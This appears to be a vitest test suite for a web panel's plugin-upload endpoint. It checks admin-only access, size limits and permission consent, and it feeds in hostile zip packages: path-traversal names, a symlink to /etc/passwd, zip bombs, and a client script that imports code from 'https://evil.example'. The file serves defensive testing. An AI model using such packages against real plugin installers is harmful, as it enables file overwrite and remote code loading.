import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { TestAnswer } from './test-client.js';
import { TestPanel } from './test-panel.js';
import { pluginFiles, pluginZip, zipOf, type ZipEntry } from './zip-fixture.js';

let panel: TestPanel;
beforeAll(async () => {
  panel = await TestPanel.start();
});
afterAll(() => panel?.dispose());

const INSTALL = '/api/admin/plugins/install';
const upload = (zip: Buffer, client = panel.admin): Promise<TestAnswer> =>
  client.post(INSTALL, zip, { headers: { 'content-type': 'application/zip' } });
const folders = (): Promise<string[]> => readdir(path.join(panel.data, 'plugins'));

test('a package becomes an inactive plugin that can be activated', async () => {
  const routes = `export default (sodium) => sodium.http.registerRoutes((r) => r.get('/', (req, res) => res.json('hi')))`;
  const zip = pluginZip(
    'fresh',
    { permissions: ['http:routes'], dependencies: { other: '^2.0.0' } },
    { 'server.js': routes, 'assets/a/b.txt': 'b' },
  );
  const answer = await upload(zip);
  expect(answer.status).toBe(201);
  expect(answer.json).toMatchObject({
    id: 'fresh',
    state: 'inactive',
    dependencies: [{ id: 'other', range: '^2.0.0', found: null, satisfied: false }],
  });
  expect(await readFile(path.join(panel.data, 'plugins/fresh/assets/a/b.txt'), 'utf8')).toBe('b');
  expect((await upload(pluginZip('fresh', { permissions: ['http:routes'] }, { 'server.js': routes }))).status).toBe(
    200,
  );
  expect((await panel.admin.post('/api/admin/plugins/fresh/activate', { permissions: ['http:routes'] })).status).toBe(
    200,
  );
  expect((await panel.user.get('/api/plugins/fresh/')).json).toBe('hi');
  const { json } = await panel.admin.get('/api/admin/audit');
  expect(json.items).toContainEqual(
    expect.objectContaining({
      action: 'plugin.install',
      target: 'fresh',
      actor: expect.objectContaining({ username: 'root' }),
    }),
  );
});

test('a new version is an offered update; what was consented to runs on', async () => {
  const answering = (word: string): Record<string, string> => ({
    'server.js': `export default (sodium) => sodium.http.registerRoutes((r) => r.get('/', (req, res) => res.json('${word}')))`,
  });
  await upload(pluginZip('growing', { permissions: ['http:routes'] }, answering('one')));
  await panel.admin.post('/api/admin/plugins/growing/activate', { permissions: ['http:routes'] });
  const update = await upload(
    pluginZip('growing', { version: '2.0.0', permissions: ['http:routes', 'db:own'] }, answering('two')),
  );
  expect(update.status).toBe(200);
  expect(update.json).toMatchObject({
    version: '1.0.0',
    state: 'active',
    update: { version: '2.0.0', addedPermissions: ['db:own'] },
  });
  expect((await panel.user.get('/api/plugins/growing/')).json).toBe('one');
});

test('a form with the field "package" and a package in one folder are taken too', async () => {
  const nested = pluginFiles('nested').map((entry) => ({ ...entry, name: `nested/${String(entry.name)}` }));
  const form = new FormData();
  form.set('note', 'hello');
  form.set(
    'package',
    new Blob([
      zipOf([{ name: 'nested/', mode: 0o040755 }, ...nested, { name: '__MACOSX/nested/._plugin.json', data: 'x' }]),
    ]),
    'nested.zip',
  );
  const encoded = new Response(form);
  const answer = await panel.admin.post(INSTALL, new Uint8Array(await encoded.arrayBuffer()), {
    headers: { 'content-type': encoded.headers.get('content-type')! },
  });
  expect(answer.status).toBe(201);
  expect((await readdir(path.join(panel.data, 'plugins/nested'))).sort()).toEqual(['plugin.json', 'server.js']);
});

test('only admins install, and nothing of the body is looked at before', async () => {
  expect((await upload(Buffer.from('x'), panel.nobody)).status).toBe(401);
  expect((await upload(Buffer.from('x'), panel.user)).status).toBe(403);
  const foreign = await panel.admin.post(INSTALL, pluginZip('foreign'), {
    headers: { origin: 'https://evil.example' },
  });
  expect(foreign.status).toBe(403);
});

test('a package beyond 20 MiB is refused, with and without its length stated', async () => {
  const large = Buffer.alloc(20 * 1024 * 1024 + 128 * 1024);
  expect((await upload(large)).status).toBe(413);
  const pieces = new ReadableStream<Uint8Array>({
    start(controller) {
      for (let at = 0; at < large.length; at += 1024 * 1024) controller.enqueue(large.subarray(at, at + 1024 * 1024));
      controller.close();
    },
  });
  const answer = await fetch(panel.url + INSTALL, {
    method: 'POST',
    body: pieces,
    duplex: 'half',
    headers: { cookie: panel.admin.sessionCookie },
  } as RequestInit);
  expect(answer.status).toBe(413);
});

test('two admins at once: each package is installed whole', async () => {
  const answers = await Promise.all(
    ['1.0.0', '1.1.0', '1.2.0'].map((version) =>
      upload(pluginZip('contested', { version }, { 'assets/version.txt': version })),
    ),
  );
  expect(answers.some(({ status }) => status < 300)).toBe(true);
  expect(answers.every(({ status }) => [200, 201, 409].includes(status))).toBe(true);
  const folder = path.join(panel.data, 'plugins/contested');
  const { version } = JSON.parse(await readFile(path.join(folder, 'plugin.json'), 'utf8'));
  expect(await readFile(path.join(folder, 'assets/version.txt'), 'utf8')).toBe(version);
});

const good = (): ZipEntry[] => pluginFiles('hostile');
const withFile = (entry: ZipEntry): Buffer => zipOf([...good(), entry]);
const zeros = (bytes: number): Buffer => Buffer.alloc(bytes);

describe('hostile packages change nothing and are told every fault', () => {
  test.each<[string, () => Buffer, RegExp]>([
    ['no zip at all', () => Buffer.from('MZ this is no archive'), /not a zip archive/],
    ['nothing', () => Buffer.alloc(0), /no file/],
    ['an empty archive', () => zipOf([]), /empty/],
    ['a cut archive', () => pluginZip('hostile').subarray(0, -30), /not a zip archive/],
    ['a path that leads out', () => withFile({ name: '../evil.js', data: 'x' }), /"\.\.\/evil\.js" leads out/],
    ['a path that leads out further in', () => withFile({ name: 'assets/../../evil.js', data: 'x' }), /leads out/],
    ['an absolute path', () => withFile({ name: '/tmp/sodium-evil', data: 'x' }), /absolute/],
    ['a drive letter', () => withFile({ name: 'C:/evil', data: 'x' }), /absolute/],
    ['backslashes', () => withFile({ name: '..\\evil.js', data: 'x' }), /backslash/],
    ['a NUL in a name', () => withFile({ name: 'assets/a\0.css', data: 'x' }), /control characters/],
    [
      'a name that is not UTF-8',
      () => withFile({ name: Buffer.from([0x61, 0xff, 0xfe]), data: 'x' }),
      /not valid UTF-8/,
    ],
    ['a name of a device', () => withFile({ name: 'assets/aux.css', data: 'x' }), /not every system/],
    ['a very long name', () => withFile({ name: 'a'.repeat(5000), data: 'x' }), /more than 240 characters/],
    ['a link', () => withFile({ name: 'assets/passwd', data: '/etc/passwd', mode: 0o120777 }), /is a link/],
    ['a device', () => withFile({ name: 'assets/tty', data: '', mode: 0o020666 }), /special file/],
    ['an encrypted file', () => withFile({ name: 'assets/x', data: 'x', flags: 1 }), /encrypted/],
    ['an unknown way of packing', () => withFile({ name: 'assets/x', data: 'x', method: 14 }), /method 14/],
    ['one name twice', () => withFile({ name: 'server.js', data: 'x' }), /"server\.js" is there twice/],
    ['names that differ in case alone', () => withFile({ name: 'Server.js', data: 'x' }), /differ only in case/],
    [
      'names that differ in spelling alone',
      () => zipOf([...good(), { name: 'assets/é.css', data: 'a' }, { name: 'assets/e\u0301.css', data: 'b' }]),
      /differ only in case or spelling/,
    ],
    ['a file that is a folder', () => withFile({ name: 'server.js/x', data: 'x' }), /file and a folder at once/],
    ['a bomb that says so', () => withFile({ name: 'assets/bomb', data: zeros(40 * 1024 * 1024) }), /200 times/],
    [
      'a bomb that lies',
      () => withFile({ name: 'assets/bomb', data: zeros(40 * 1024 * 1024), statedSize: 100 }),
      /cannot be unpacked/,
    ],
    ['a wrong checksum', () => withFile({ name: 'assets/x', data: 'x', statedCrc: 1 }), /checksum/],
    [
      'too many files',
      () => zipOf([...good(), ...Array.from({ length: 2100 }, (_, n) => ({ name: `assets/${n}`, data: '' }))]),
      /more than 2000 files/,
    ],
    [
      'more than may be unpacked, in many files',
      () =>
        zipOf([
          ...good(),
          ...Array.from({ length: 3 }, (_, n) => ({
            name: `assets/${n}`,
            data: zeros(10),
            statedSize: 40 * 1024 * 1024,
          })),
        ]),
      /more than 104857600 bytes/,
    ],
    ['no manifest', () => zipOf([{ name: 'server.js', data: '' }]), /plugin\.json is missing/],
    ['a broken manifest', () => zipOf([{ name: 'plugin.json', data: '{"id":' }]), /plugin\.json/],
    ['an id that leads out', () => pluginZip('hostile', { id: '../evil' }), /plugin\.json: id/],
    ['a reserved id', () => pluginZip('install'), /reserved/],
    ['a wrong version', () => pluginZip('hostile', { version: 'one' }), /version/],
    ['a panel of another time', () => pluginZip('hostile', { sodium: '>=9.0.0' }), /this panel is version/],
    ['an unknown permission', () => pluginZip('hostile', { permissions: ['root'] }), /permissions\.0/],
    ['a syntax error', () => pluginZip('hostile', {}, { 'server.js': 'export default (' }), /server\.js:1:\d+/],
    [
      'an import in server.js',
      () => pluginZip('hostile', {}, { 'server.js': '\nimport fs from "node:fs";\nexport default () => {}' }),
      /server\.js:2:1: cannot import "node:fs"/,
    ],
    [
      'an import in a long server.js',
      () => pluginZip('hostile', {}, { 'server.js': `// ${'x'.repeat(30_000)}\nimport fs from "node:fs";` }),
      /server\.js:2:1: cannot import "node:fs"/,
    ],
    [
      'an import in client.js',
      () => pluginZip('hostile', {}, { 'client.js': 'import { html } from "lit"; export default () => html``' }),
      /client\.js:1:1: cannot import "lit"/,
    ],
    [
      'a dynamic import in client.js',
      () =>
        pluginZip(
          'hostile',
          {},
          { 'client.js': 'export default async () => { await import("https://evil.example/x.js") }' },
        ),
      /client\.js:1:\d+: cannot import "https/,
    ],
    [
      'a Lit of its own',
      () =>
        pluginZip(
          'hostile',
          {},
          { 'client.js': '(globalThis.litHtmlVersions??=[]).push("3.3.0");export default () => {}' },
        ),
      /its own copy of Lit/,
    ],
  ])('%s', async (_name, zip, message) => {
    const before = await folders();
    const answer = await upload(zip());
    expect(answer.status, answer.text).toBe(400);
    expect(answer.json.error.code).toBe('INVALID_PACKAGE');
    const faults = answer.json.error.details as { path: string; message: string; fix: string }[];
    expect(faults.map((fault) => fault.message).join('\n')).toMatch(message);
    for (const fault of faults)
      expect(fault).toEqual({
        path: expect.any(String),
        message: expect.any(String),
        fix: expect.stringMatching(/.{5,}/),
      });
    expect(await folders()).toEqual(before);
    expect(answer.text).not.toContain(panel.data);
  });

  test('several faults are told at once', async () => {
    const answer = await upload(
      zipOf([...good(), { name: '../a', data: '' }, { name: '/b', data: '' }, { name: 'c', data: '', flags: 1 }]),
    );
    expect((answer.json.error.details as unknown[]).length).toBe(3);
  });

  test('a form that is none, and one without the file', async () => {
    const post = (type: string, body: string): Promise<TestAnswer> =>
      panel.admin.post(INSTALL, body, { headers: { 'content-type': type } });
    expect((await post('multipart/form-data', 'x')).status).toBe(400);
    expect(
      (
        await post(
          'multipart/form-data; boundary=b',
          '--b\r\nContent-Disposition: form-data; name="other"\r\n\r\nx\r\n--b--\r\n',
        )
      ).status,
    ).toBe(400);
    expect(
      (
        await post(
          'multipart/form-data; boundary=b',
          '--b\r\nContent-Disposition: form-data; name="package"; filename="x"\r\n\r\nx',
        )
      ).status,
    ).toBe(400);
  });
});
